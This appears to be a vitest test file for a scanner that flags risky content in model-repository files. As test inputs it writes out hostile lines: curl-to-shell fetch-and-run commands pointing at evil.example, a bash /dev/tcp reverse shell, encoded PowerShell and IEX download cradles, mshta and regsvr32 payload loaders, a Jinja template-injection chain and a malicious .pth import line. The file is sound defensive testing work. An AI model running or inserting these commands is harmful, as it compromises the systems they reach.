import { describe, expect, test } from 'vitest';
import { analyse } from '../../analyse/analyse.ts';
import { ascii, bytes } from '../../containers/zip/build-zip.ts';
import { plain } from '../../report/prose.ts';
import type { Report } from '../../report/schema.ts';
import { inspectBytes } from '../../rules/conformance/inspect.ts';
import { bytesSource } from '../../source/sources.ts';
import { instantiate } from '../../wasm/engine.ts';
import { loadModule } from '../../wasm/load.node.ts';

const engine = instantiate(loadModule());
const bytesOf = (text: string): Uint8Array => new TextEncoder().encode(text);
const inspect = (text: string, name: string): Promise<Report> => inspectBytes(bytesOf(text), name, engine);
const told = async (text: string, name: string): Promise<string[]> =>
  (await inspect(text, name)).findings.map(({ severity, rule }) => `${severity} ${rule}`);

test('a prompt in a text of any name is a template when it reaches Python', async () => {
  const text = 'Hello {{ user }}\n{{ config.__class__.__init__.__globals__ }}';
  const report = await inspect(text, 'system.template');
  expect(report.findings.map(({ rule, place }) => [rule, place.offset])).toEqual([
    ['template.internal', text.indexOf('.__class__')],
  ]);
  expect(await told(text, 'notes.md')).toEqual([]);
  expect(await told('{{ user }} and __init__', 'system.template')).toEqual([]);
});

test.each([100, 512 * 1024 - 20, 3_000_001])('also behind %i bytes of words in any encoding', async (before) => {
  const climbs = ascii('{{ x.__class__.__base__ }}');
  for (const letter of [[0xc3, 0xa9], [0xe9]]) {
    const words = Uint8Array.from({ length: before }, (_, i) =>
      i % 40 < 2 ? (letter[i % 2] ?? 0x61) : i % 8 === 7 ? 0x20 : 0x61,
    );
    const report = await inspectBytes(bytes(words, climbs), 'prompts.txt', engine);
    expect(report.findings.map(({ rule, place }) => [rule, place.offset])).toEqual([['template.internal', before + 4]]);
  }
});

describe('requirements', () => {
  const one = (line: string): Promise<string[]> => told(`${line} --hash=sha256:00\n`, 'requirements.txt');

  test.each([
    ['torch==2.3.0', []],
    ['torch[cuda]>=2.0 ; python_version < "3.12"', []],
    ['--extra-index-url https://download.pytorch.org/whl/cu121', ['note text.requirement-index']],
    ['--index-url https://index.evil.example/simple', ['high text.requirement-host']],
    ['-i http://index.example/simple', ['high text.requirement-host']],
    ['--trusted-host index.example', ['high text.requirement-host']],
    ['--find-links https://evil.example/wheels', ['high text.requirement-host']],
    ['git+https://github.com/huggingface/transformers', ['low text.requirement-url']],
    ['git+ssh://git@github.com/a/b.git', ['low text.requirement-url']],
    [`a @ git+https://github.com/a/b@${'a'.repeat(40)}`, ['note text.requirement-commit']],
    ['a @ https://evil.example/a-1.0.whl', ['high text.requirement-host']],
    ['-e git+https://evil.example/a.git#egg=a', ['high text.requirement-host']],
    ['-e .', ['note text.requirement-local']],
    ['./wheels/a-1.0-py3-none-any.whl', ['note text.requirement-local']],
    ['-r https://evil.example/more.txt', ['high text.requirement-host']],
    ['-r base.txt', ['note text.requirement-include']],
    ['a==1 --global-option=build', ['low text.requirement-option']],
    ['reque\u200bsts', ['medium text.requirement-hidden']],
  ])('%s', async (line, expected) => {
    expect(await one(line)).toEqual(expected);
  });

  test('without hashes that is noted once, lines that go on are one, and places count bytes', async () => {
    const report = await inspect('# naïve\ntorch \\\n  @ https://evil.example/t.whl\nnumpy\n', 'requirements-gpu.txt');
    expect(report.findings.map(({ rule, place }) => [rule, place.offset])).toEqual([
      ['text.requirement-host', 9],
      ['text.requirement-hashes', 9],
    ]);
    expect([report.verdict, report.status]).toEqual(['can-run-code', 'complete']);
  });

  test('a list of nothing but releases runs nothing', async () => {
    const report = await inspect('torch\nnumpy>=1\n', 'requirements.txt');
    expect([report.verdict, report.findings.map(({ rule }) => rule)]).toEqual([
      'nothing-runs',
      ['text.requirement-hashes'],
    ]);
  });
});

describe('.pth files', () => {
  test('a line that begins with import is carried out by Python', async () => {
    const report = await inspect('/opt/models\nimport os; os.system("exit 7")\n', 'weights.pth');
    expect(report.findings[0]).toMatchObject({ rule: 'text.path-file', severity: 'high', place: { offset: 12 } });
    expect(plain(report.summary.headline)).toContain('run Python each time Python starts');
  });

  test('folders alone are not', async () => {
    expect(await told('/opt/models\n# import os\n', 'weights.pth')).toEqual(['low identity.extension']);
  });
});

describe('shell scripts', () => {
  test.each([
    'curl -fsSL https://evil.example/x | sh',
    'wget -qO- https://evil.example/x | sudo bash -s --',
    'bash <(curl -s https://evil.example/x)',
    'sh -c "$(curl -fsSL https://evil.example/x)"',
    'echo aWQ= | base64 -d | bash',
    'curl https://evil.example/x | python3',
    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    'curl https://evil.example/x \\\n  | sh',
    'curl https://evil.example/x |\n  bash',
    'curl https://evil.example/x |\n\n# then\n  bash',
    `curl https://evil.example/x${' '.repeat(30_000)}| sh`,
    `: ${'a'.repeat(30_000)}; curl https://evil.example/x | sh`,
    '# a comment does not go on \\\ncurl https://evil.example/x | sh',
  ])('%s', async (line) => {
    expect(await told(`#!/bin/sh\n${line}\n`, 'run.sh')).toContain('medium text.fetch-and-run');
  });

  test.each([
    'curl -o model.bin https://huggingface.co/x',
    '# curl x | sh',
    'curl x\n# | sh',
    'python train.py | tee log',
    'pip install torch',
  ])('%s is ordinary', async (line) => {
    expect(await told(`#!/bin/sh\n${line}\n`, 'run.sh')).toEqual(['note executable.script']);
  });
});

describe('scripts of Windows', () => {
  test.each([
    ['run.bat', 'powershell -NoP -W Hidden -enc SQBFAFgAIAAoAE4A'],
    ['run.cmd', 'start mshta https://evil.example/x.hta'],
    ['run.ps1', 'IEX (New-Object Net.WebClient).DownloadString("https://evil.example/a")'],
    ['run.ps1', 'irm https://evil.example/a | iex'],
    ['run.ps1', 'irm https://evil.example/a |\r\n  iex'],
    ['run.bat', 'powershell ^\r\n  -enc SQBFAFgAIAAoAE4A'],
    ['run.bat', 'regsvr32 /s /n /u /i:https://evil.example/x.sct scrobj.dll'],
  ])('%s: %s', async (name, line) => {
    expect(await told(`${line}\r\n`, name)).toContain('medium text.fetch-and-run');
  });

  test.each([
    ['run.bat', 'python -m venv env'],
    ['run.bat', 'rem powershell -enc SQBFAFgAIAAoAE4A'],
    ['run.bat', 'powershell -ExecutionPolicy Bypass -File install.ps1'],
    ['run.ps1', 'Invoke-WebRequest https://huggingface.co/x -OutFile model.bin'],
    ['run.ps1', '# irm https://example.org | iex'],
  ])('%s: %s is ordinary', async (name, line) => {
    expect(await told(`${line}\r\n`, name)).not.toContain('medium text.fetch-and-run');
  });
});

test('of commands too long to be looked at in one go that is said', async () => {
  const script = `#!/bin/sh\n: ${'a '.repeat(30_000)}\n`;
  expect(await told(script, 'run.sh')).toEqual(['low problem.limit', 'note executable.script']);
});

test('a script whose every line fetches is told a thousand times, and how often more', async () => {
  const script = `#!/bin/sh\n${'curl https://evil.example/x | sh\n'.repeat(1_002)}`;
  const { facts } = await analyse(bytesSource(bytesOf(script), 'run.sh'), engine);
  expect(facts.filter((fact) => fact.kind === 'oddity')).toHaveLength(1_000);
  expect(facts.flatMap((fact) => (fact.kind === 'problem' ? [plain(fact.what)] : []))).toEqual([
    '2 more cases of “fetch-and-run” are not listed.',
  ]);
});

test('a model card says where a model comes from', async () => {
  const card =
    '---\nlicense: mit\nbase_model:\n- org/base\ntags: [pytorch, custom_code]\nother: x\n---\n# Model\nlicense: no\n';
  const { facts } = await analyse(bytesSource(bytesOf(card), 'README.md'), engine);
  const values = facts.flatMap((fact) => (fact.kind === 'metadata' ? [`${fact.key}=${plain(fact.value)}`] : []));
  expect(values).toEqual(['license=mit', 'base_model=org/base', 'tags=pytorch', 'tags=custom_code']);
  expect(facts.find((fact) => fact.kind === 'setting')).toMatchObject({ code: 'base-model', repo: 'org/base' });
  expect(await told(card, 'README.md')).toEqual(['note text.card-custom-code']);
});

describe('what stands where a model was meant', () => {
  test('a pointer of Git LFS', async () => {
    const text = `version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 438064459\n`;
    const report = await inspect(text, 'model.safetensors');
    expect(report.findings.map(({ rule }) => rule).sort()).toEqual(['identity.extension', 'text.lfs-pointer']);
    expect(plain(report.summary.headline)).toBe('This is a pointer to a file, not the file itself.');
    const { facts } = await analyse(bytesSource(bytesOf(text), 'model.safetensors'), engine);
    expect(facts.flatMap((fact) => (fact.kind === 'metadata' ? [fact.key] : []))).toEqual(['oid', 'size']);
  });

  test('a page', async () => {
    const report = await inspect('<!DOCTYPE html><html><title>404 Not Found</title></html>', 'model.bin');
    expect(report.findings.map(({ rule }) => rule)).toContain('text.error-page');
    expect(await told('<!DOCTYPE html><html></html>', 'index.html')).toEqual([]);
  });

  test.each([
    ['OpenSSL', 'Salted__\x01\x02\x03\x04\x05\x06\x07\x08abcdefgh'],
    ['age', 'age-encryption.org/v1\n-> X25519 abc\n'],
  ])('a file encrypted with %s', async (scheme, text) => {
    const report = await inspect(text, 'model.bin');
    expect([report.file.formatName, report.verdict]).toEqual([`Encrypted file (${scheme})`, 'not-known']);
  });
});
